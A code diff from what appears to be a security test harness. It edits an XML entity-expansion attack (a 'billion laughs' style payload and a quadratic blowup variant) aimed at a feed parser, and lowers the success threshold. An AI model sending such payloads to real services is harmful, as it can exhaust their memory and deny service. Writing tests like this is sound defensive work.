@@ -52,13 +52,13 @@ export async function attack({ readFeed }: Code, { body }: { body: string }, var
   try {
     const { items, skipped } = await readFeed(Buffer.from(body), createShop(vary), log)
     const length = items.reduce((sum, { name }) => sum + name.length, 0)
-    return { isDone: length > 2_000_000, shown: `${items.length} items read, ${skipped} skipped; their texts have ${length} characters.` }
+    return { isDone: length > 300_000, shown: `${items.length} items read, ${skipped} skipped; their texts have ${length} characters.` }
   } catch (error) {
     return { isDone: false, shown: String(error) }
   }
 }
 
-const grown = `<!DOCTYPE catalog [<!ENTITY a "${'lamp '.repeat(100)}"><!ENTITY b "${'&a;'.repeat(20)}"><!ENTITY c "${'&b;'.repeat(20)}">]><catalog>${`<item number="1" price="9.90">${'&c;'.repeat(5)}</item>`.repeat(4)}</catalog>`
+const grown = `<!DOCTYPE catalog [<!ENTITY a "${'lamp '.repeat(200)}">]><catalog>${`<item number="1" price="9.90">${'&a;'.repeat(100)}</item>`.repeat(4)}</catalog>`
 
 export const attacks = [
   { input: { body: grown }, isDone: true },
